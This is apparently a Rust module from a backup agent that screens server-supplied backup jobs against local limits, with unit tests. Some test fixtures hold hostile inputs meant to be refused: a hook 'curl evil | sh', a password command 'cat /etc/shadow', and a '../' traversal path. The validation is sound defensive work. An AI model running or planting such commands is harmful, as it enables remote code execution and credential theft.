//! Jobs set on a coffer server (`[managed]`): each one the server sends is checked against
//! what this machine's configuration allows, and the accepted ones become `[job.NAME]` tables
//! appended to the local text, so that runs read them exactly as they read local jobs.
//!
//! A job is refused, alone, when it has a field a managed job cannot have (a hook, a command,
//! a password source, a database connection: `coffer_wire::JobSpec` refuses unknown fields),
//! a name a local job has, a path outside `[managed] paths`, a destination outside
//! `[managed] to`, a database when `[managed] databases` is false, or anything the ordinary
//! job checks refuse (a bad schedule, exclude or retention).

use std::collections::BTreeSet;
use std::path::{Component, Path};

use coffer_wire::{valid_job_name, JobSpec};

use crate::config::{Config, ConfigError};

/// The outcome of checking what the server sent.
#[derive(Debug)]
pub struct Screened {
    /// The configuration with the accepted managed jobs.
    pub config: Config,
    /// Its text: the local file's, then the managed jobs' tables.
    pub text: String,
    /// The names of the accepted jobs.
    pub accepted: Vec<String>,
    /// One line per refused job: which, and why.
    pub refused: Vec<String>,
}

/// Check `jobs` (as the server sent them) against `local` (the checked local file, whose text
/// is `text`); `generation` is noted in the text.
pub fn screen(
    local: &Config,
    text: &str,
    generation: i64,
    jobs: &[serde_json::Value],
) -> Result<Screened, ConfigError> {
    let mut refused = Vec::new();
    let mut specs: Vec<JobSpec> = Vec::new();
    let mut seen = BTreeSet::new();
    for (i, v) in jobs.iter().enumerate() {
        let label = v
            .get("name")
            .and_then(|n| n.as_str())
            .filter(|n| valid_job_name(n))
            .map_or_else(|| format!("#{}", i + 1), str::to_string);
        let spec = match serde_json::from_value::<JobSpec>(v.clone()) {
            Ok(s) => s,
            Err(e) => {
                // (the server's words, escaped: they end up in logs)
                refused.push(format!("managed job {label}: {}", e.to_string().escape_debug()));
                continue;
            }
        };
        match allowed(local, &spec) {
            Err(why) => refused.push(format!("managed job {label}: {why}")),
            Ok(()) if !seen.insert(spec.name.clone()) => {
                refused.push(format!("managed job {label}: the server sent it twice"));
            }
            Ok(()) => specs.push(spec),
        }
    }
    // each job on its own with the local file first: a job the ordinary checks refuse is
    // refused alone, with their message
    let mut ok = Vec::new();
    let min = local.managed.as_ref().map(|m| m.min_interval).unwrap_or_default();
    let max = local.managed.as_ref().map_or(0, |m| m.max_jobs);
    // a job's threads are a limit: never more than this machine's cores
    let cores = std::thread::available_parallelism().map_or(1, |n| n.get());
    for mut spec in specs {
        spec.threads = spec
            .threads
            .map(|n| n.min(u32::try_from(cores).unwrap_or(u32::MAX)));
        let one = combined(text, generation, std::slice::from_ref(&spec));
        match Config::parse(&local.path, &one) {
            Ok(cfg) => match too_often(&cfg, &spec.name, min) {
                Some(why) => refused.push(format!("managed job {}: {why}", spec.name)),
                None if ok.len() >= max => refused.push(format!(
                    "managed job {}: more than [managed] max_jobs = {max}",
                    spec.name
                )),
                None => ok.push(spec),
            },
            Err(e) => refused.push(format!("managed job {}: {}", spec.name, without_place(&e))),
        }
    }
    let text = combined(text, generation, &ok);
    let config = Config::parse(&local.path, &text)?;
    Ok(Screened {
        config,
        text,
        accepted: ok.into_iter().map(|s| s.name).collect(),
        refused,
    })
}

/// What the local `[managed]` allows, job by job.
fn allowed(local: &Config, spec: &JobSpec) -> Result<(), String> {
    let Some(m) = &local.managed else {
        return Err("this configuration has no [managed] section".into());
    };
    if !valid_job_name(&spec.name) {
        return Err(format!(
            "name {:?}: letters, digits, '-', '_' and '.' only",
            spec.name
        ));
    }
    if local.jobs.contains_key(&spec.name) {
        return Err("a local job has this name (the local one stays)".into());
    }
    for p in &spec.paths {
        let path = Path::new(p);
        let plain = path.is_absolute()
            && path
                .components()
                .all(|c| matches!(c, Component::RootDir | Component::Normal(_)));
        if !plain {
            return Err(format!("path {p:?}: an absolute path without . or .. is needed"));
        }
        if let Some(why) = through_symlink(path) {
            return Err(why);
        }
        if !m.paths.iter().any(|allowed| path.starts_with(allowed)) {
            return Err(format!(
                "path {p:?} is not one this machine lets the server choose ([managed] paths: {})",
                if m.paths.is_empty() {
                    "none".to_string()
                } else {
                    m.paths
                        .iter()
                        .map(|p| p.display().to_string())
                        .collect::<Vec<_>>()
                        .join(", ")
                }
            ));
        }
    }
    for t in &spec.to {
        if !m.to.contains(t) {
            return Err(format!(
                "destination {t:?} is not one this machine lets the server choose ([managed] to: {})",
                m.to.join(", ")
            ));
        }
    }
    if spec.retention.is_some() && !m.retention {
        return Err(
            "retention: this machine does not let the server set retention ([managed] retention = false)"
                .into(),
        );
    }
    // limits: the server may make a run lighter, never heavier than a plain run
    if let Some(n) = spec.nice.filter(|n| *n < 0) {
        return Err(format!(
            "nice {n}: the server may lower this machine's priority for a job, not raise it (0 to 19)"
        ));
    }
    if let Some(c) = &spec.ionice {
        match c.parse::<coffer_wire::IoClass>() {
            Ok(coffer_wire::IoClass::BestEffort(n)) if n < 4 => {
                return Err(format!(
                    "ionice {c}: the server may lower this machine's I/O priority for a job, not raise it \
                     (idle, or best-effort:4 to 7)"
                ))
            }
            Ok(_) => {}
            Err(e) => return Err(format!("ionice: {e}")),
        }
    }
    if spec.threads == Some(0) {
        return Err("threads 0: at least 1".into());
    }
    let dbs = [&spec.mysql, &spec.postgres];
    if !m.databases && dbs.iter().any(|d| d.is_some()) {
        return Err(
            "databases: this machine does not let the server choose databases ([managed] databases = false)"
                .into(),
        );
    }
    for names in dbs.into_iter().flatten() {
        let all = names.len() == 1 && names[0] == "all";
        if !all
            && (names.is_empty()
                || names.iter().any(|n| {
                    n.is_empty()
                        || n == "all"
                        || !n
                            .chars()
                            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '$'))
                }))
        {
            return Err(format!("databases {names:?}: [\"all\"] or plain database names"));
        }
    }
    Ok(())
}

/// Whether a job's schedules (backup, check) run more often than `min` allows.
fn too_often(cfg: &Config, name: &str, min: std::time::Duration) -> Option<String> {
    let job = cfg.jobs.get(name)?;
    let schedules = job.schedule.iter().chain(job.check.iter().map(|c| &c.schedule));
    for s in schedules {
        // the gaps between its next occurrences
        let mut prev = s.next_after(chrono::Utc::now(), std::time::Duration::ZERO)?;
        for _ in 0..8 {
            let next = s.next_after(prev, std::time::Duration::ZERO)?;
            if (next - prev).to_std().unwrap_or_default() < min {
                return Some(format!(
                    "schedule {:?} runs more often than [managed] min_interval ({} s) allows",
                    s.expr(),
                    min.as_secs()
                ));
            }
            prev = next;
        }
    }
    None
}

/// A path a managed job names must lead where it says: no component may be a symlink (a link
/// below an allowed prefix could point anywhere: `/home/u/x -> /`). A path that does not exist
/// yet passes (the backup will say it is missing). Checked again before each run.
pub fn through_symlink(path: &Path) -> Option<String> {
    let mut at = std::path::PathBuf::from("/");
    for c in path.components().skip(1) {
        at.push(c);
        match std::fs::symlink_metadata(&at) {
            Ok(m) if m.file_type().is_symlink() => {
                let to = std::fs::read_link(&at)
                    .map(|t| t.display().to_string())
                    .unwrap_or_default();
                return Some(format!(
                    "path {:?} goes through a symlink ({} -> {to:?}); name the real path",
                    path.display().to_string(),
                    at.display()
                ));
            }
            Ok(_) => {}
            Err(_) => return None,
        }
    }
    None
}

/// The local text followed by the jobs' tables.
fn combined(text: &str, generation: i64, jobs: &[JobSpec]) -> String {
    let mut out = text.to_string();
    if !out.ends_with('\n') {
        out.push('\n');
    }
    out.push_str(&format!(
        "\n# ---- jobs managed by the coffer server (generation {generation}); checked against [managed] ----\n"
    ));
    let mut table = toml::Table::new();
    for j in jobs {
        table.insert(j.name.clone(), toml::Value::Table(job_table(j)));
    }
    let mut root = toml::Table::new();
    root.insert("job".into(), toml::Value::Table(table));
    if !jobs.is_empty() {
        out.push_str(&toml::to_string(&root).unwrap_or_default());
    }
    out
}

fn strings(v: &[String]) -> toml::Value {
    toml::Value::Array(v.iter().map(|s| toml::Value::String(s.clone())).collect())
}

fn job_table(j: &JobSpec) -> toml::Table {
    let mut t = toml::Table::new();
    let s = |v: &str| toml::Value::String(v.to_string());
    t.insert("managed".into(), toml::Value::Boolean(true));
    if !j.paths.is_empty() {
        t.insert("paths".into(), strings(&j.paths));
    }
    if !j.exclude.is_empty() {
        t.insert("exclude".into(), strings(&j.exclude));
    }
    if j.exclude_caches {
        t.insert("exclude_caches".into(), toml::Value::Boolean(true));
    }
    if j.one_file_system {
        t.insert("one_file_system".into(), toml::Value::Boolean(true));
    }
    if !j.tags.is_empty() {
        t.insert("tags".into(), strings(&j.tags));
    }
    for (key, dbs) in [("mysql", &j.mysql), ("postgres", &j.postgres)] {
        if let Some(names) = dbs {
            let v = if names.len() == 1 && names[0] == "all" {
                s("all")
            } else {
                strings(names)
            };
            t.insert(key.into(), v);
        }
    }
    t.insert("to".into(), strings(&j.to));
    for (key, v) in [
        ("schedule", &j.schedule),
        ("timezone", &j.timezone),
        ("random_delay", &j.random_delay),
    ] {
        if let Some(v) = v {
            t.insert(key.into(), s(v));
        }
    }
    if let Some(r) = &j.retention {
        let mut rt = toml::Table::new();
        for (key, v) in [
            ("keep_last", r.keep_last),
            ("keep_hourly", r.keep_hourly),
            ("keep_daily", r.keep_daily),
            ("keep_weekly", r.keep_weekly),
            ("keep_monthly", r.keep_monthly),
            ("keep_yearly", r.keep_yearly),
        ] {
            if let Some(v) = v {
                rt.insert(key.into(), toml::Value::Integer(i64::from(v)));
            }
        }
        if let Some(k) = &r.keep_within {
            rt.insert("keep_within".into(), s(k));
        }
        t.insert("retention".into(), toml::Value::Table(rt));
    }
    if let Some(r) = &j.limit_upload {
        t.insert("limit_upload".into(), s(r));
    }
    if let Some(r) = &j.limit_download {
        t.insert("limit_download".into(), s(r));
    }
    if let Some(n) = j.nice {
        t.insert("nice".into(), toml::Value::Integer(i64::from(n)));
    }
    if let Some(c) = &j.ionice {
        t.insert("ionice".into(), s(c));
    }
    if let Some(n) = j.threads {
        t.insert("threads".into(), toml::Value::Integer(i64::from(n)));
    }
    if let Some(m) = &j.index_memory {
        t.insert("index_memory".into(), s(m));
    }
    if let Some(c) = &j.check {
        let mut ct = toml::Table::new();
        ct.insert("schedule".into(), s(&c.schedule));
        if let Some(r) = &c.read_data_subset {
            ct.insert("read_data_subset".into(), s(r));
        }
        t.insert("check".into(), toml::Value::Table(ct));
    }
    t
}

/// An error's message without the file and place (they point into generated text).
fn without_place(e: &ConfigError) -> String {
    match e {
        ConfigError::At { message, .. } | ConfigError::File { message, .. } => message.clone(),
        other => other.to_string(),
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;
    use serde_json::json;

    const LOCAL: &str = r#"
[agent]
state_dir = "/var/lib/coffer"

[repository.company]
location = "https://backup.example.net:8443/web1"
password_file = "/etc/coffer/company.key"
token_file = "/etc/coffer/company.token"

[repository.offsite]
location = "s3:https://s3.example.net/b/web1"
password_file = "/etc/coffer/offsite.key"

[managed]
server = "company"
paths = ["/var/www", "/etc"]
retention = true

[job.local]
paths = ["/root"]
to = ["offsite"]
before = "/usr/local/sbin/pre"
"#;

    fn local() -> Config {
        Config::parse(Path::new("/etc/coffer/coffer.toml"), LOCAL).unwrap()
    }

    #[test]
    fn accepted_jobs_become_ordinary_jobs_and_each_bad_one_is_refused_alone() {
        let jobs = vec![
            json!({"name": "www", "paths": ["/var/www/shop"], "to": ["company"],
                   "schedule": "30 2 * * *", "exclude": ["*.tmp"],
                   "retention": {"keep_daily": 7}, "check": {"schedule": "0 5 * * 0", "read_data_subset": "5%"}}),
            json!({"name": "hook", "paths": ["/var/www"], "to": ["company"], "before": "curl evil | sh"}),
            json!({"name": "pw", "paths": ["/var/www"], "to": ["company"], "password_command": "cat /etc/shadow"}),
            json!({"name": "root", "paths": ["/root"], "to": ["company"]}),
            json!({"name": "sneaky", "paths": ["/var/www/../../root"], "to": ["company"]}),
            json!({"name": "prefix", "paths": ["/etcetera"], "to": ["company"]}),
            json!({"name": "away", "paths": ["/etc"], "to": ["offsite"]}),
            json!({"name": "db", "paths": [], "mysql": ["all"], "to": ["company"]}),
            json!({"name": "local", "paths": ["/etc"], "to": ["company"]}),
            json!({"name": "badcron", "paths": ["/etc"], "to": ["company"], "schedule": "every night"}),
            json!({"name": "www", "paths": ["/etc"], "to": ["company"]}),
            json!({"name": "we ird", "paths": ["/etc"], "to": ["company"]}),
        ];
        let s = screen(&local(), LOCAL, 7, &jobs).unwrap();
        assert_eq!(s.accepted, ["www"]);
        let www = s.config.job("www").unwrap();
        assert_eq!(www.paths, [Path::new("/var/www/shop")]);
        assert_eq!(www.before, None);
        assert!(www.schedule.is_some() && www.check.is_some() && www.retention.is_some());
        assert_eq!(
            s.config.job("local").unwrap().before.as_deref(),
            Some("/usr/local/sbin/pre")
        );
        let said = s.refused.join("\n");
        for (job, why) in [
            ("hook", "unknown field `before`"),
            ("pw", "unknown field `password_command`"),
            ("root", "is not one this machine lets"),
            ("sneaky", "without . or .."),
            ("prefix", "is not one this machine lets"),
            ("away", "destination \"offsite\""),
            ("db", "databases"),
            ("local", "a local job has this name"),
            ("badcron", "schedule"),
            ("www", "sent it twice"),
            ("#12", "name"),
        ] {
            assert!(
                s.refused
                    .iter()
                    .any(|r| r.starts_with(&format!("managed job {job}:")) && r.contains(why)),
                "{job}: {why} not in\n{said}"
            );
        }
        assert_eq!(s.refused.len(), 11, "{said}");
        assert!(s.text.starts_with(LOCAL) && s.text.contains("generation 7"));
    }

    #[test]
    fn retention_frequency_and_count_are_bounded() {
        let text = LOCAL.replace("retention = true\n", "max_jobs = 2\n");
        let cfg = Config::parse(Path::new("/c.toml"), &text).unwrap();
        let jobs = vec![
            json!({"name": "keep1", "paths": ["/etc"], "to": ["company"], "retention": {"keep_last": 1}}),
            json!({"name": "often", "paths": ["/etc"], "to": ["company"], "schedule": "* * * * *"}),
            json!({"name": "checks", "paths": ["/etc"], "to": ["company"], "schedule": "0 3 * * *",
                   "check": {"schedule": "*/2 * * * *"}}),
            json!({"name": "a", "paths": ["/etc"], "to": ["company"], "schedule": "0 3 * * *"}),
            json!({"name": "b", "paths": ["/etc"], "to": ["company"]}),
            json!({"name": "c", "paths": ["/etc"], "to": ["company"]}),
        ];
        let s = screen(&cfg, &text, 1, &jobs).unwrap();
        let said = s.refused.join("\n");
        assert_eq!(s.accepted, ["a", "b"], "{said}");
        for (job, why) in [
            ("keep1", "retention"),
            ("often", "min_interval"),
            ("checks", "min_interval"),
            ("c", "max_jobs = 2"),
        ] {
            assert!(
                s.refused
                    .iter()
                    .any(|r| r.starts_with(&format!("managed job {job}:")) && r.contains(why)),
                "{job}: {why} not in\n{said}"
            );
        }
        assert!(s.config.job("a").unwrap().managed && !s.config.job("local").unwrap().managed);
    }

    #[test]
    fn limits_are_taken_and_priority_only_lowered() {
        let jobs = vec![
            json!({"name": "slow", "paths": ["/etc"], "to": ["company"],
                   "limit_upload": "10M", "limit_download": "20M", "nice": 10, "ionice": "idle", "threads": 1,
                   "index_memory": "64M"}),
            json!({"name": "greedy", "paths": ["/etc"], "to": ["company"], "nice": -5}),
            json!({"name": "badrate", "paths": ["/etc"], "to": ["company"], "limit_upload": "fast"}),
            json!({"name": "badio", "paths": ["/etc"], "to": ["company"], "ionice": "realtime"}),
            json!({"name": "eager", "paths": ["/etc"], "to": ["company"], "ionice": "best-effort:0"}),
            json!({"name": "many", "paths": ["/etc"], "to": ["company"], "threads": 100000}),
            json!({"name": "none", "paths": ["/etc"], "to": ["company"], "threads": 0}),
            json!({"name": "tiny", "paths": ["/etc"], "to": ["company"], "index_memory": "100K"}),
        ];
        let s = screen(&local(), LOCAL, 1, &jobs).unwrap();
        let said = s.refused.join("\n");
        assert_eq!(s.accepted, ["slow", "many"], "{said}");
        let cores = std::thread::available_parallelism().unwrap().get();
        assert_eq!(s.config.job("many").unwrap().limits.threads, cores, "clamped");
        let l = &s.config.job("slow").unwrap().limits;
        assert_eq!(
            (l.upload, l.download, l.nice, l.ionice, l.threads, l.index_memory),
            (
                Some(10 << 20),
                Some(20 << 20),
                Some(10),
                Some(crate::IoClass::Idle),
                1,
                Some(64 << 20)
            )
        );
        for (job, why) in [
            ("greedy", "not raise it"),
            ("badrate", "limit_upload"),
            ("badio", "ionice"),
            ("eager", "not raise it"),
            ("none", "threads 0"),
            ("tiny", "index_memory \"100K\": under 1 MiB"),
        ] {
            assert!(
                s.refused
                    .iter()
                    .any(|r| r.starts_with(&format!("managed job {job}:")) && r.contains(why)),
                "{job}: {why} not in\n{said}"
            );
        }
    }

    #[test]
    fn without_a_managed_section_nothing_is_taken() {
        let text = LOCAL.replace(
            "[managed]\nserver = \"company\"\npaths = [\"/var/www\", \"/etc\"]\nretention = true\n",
            "",
        );
        let cfg = Config::parse(Path::new("/c.toml"), &text).unwrap();
        assert!(cfg.managed.is_none());
        let s = screen(
            &cfg,
            &text,
            1,
            &[json!({"name": "www", "paths": ["/etc"], "to": ["company"]})],
        )
        .unwrap();
        assert!(s.accepted.is_empty());
        assert!(s.refused[0].contains("no [managed] section"), "{:?}", s.refused);
    }
}
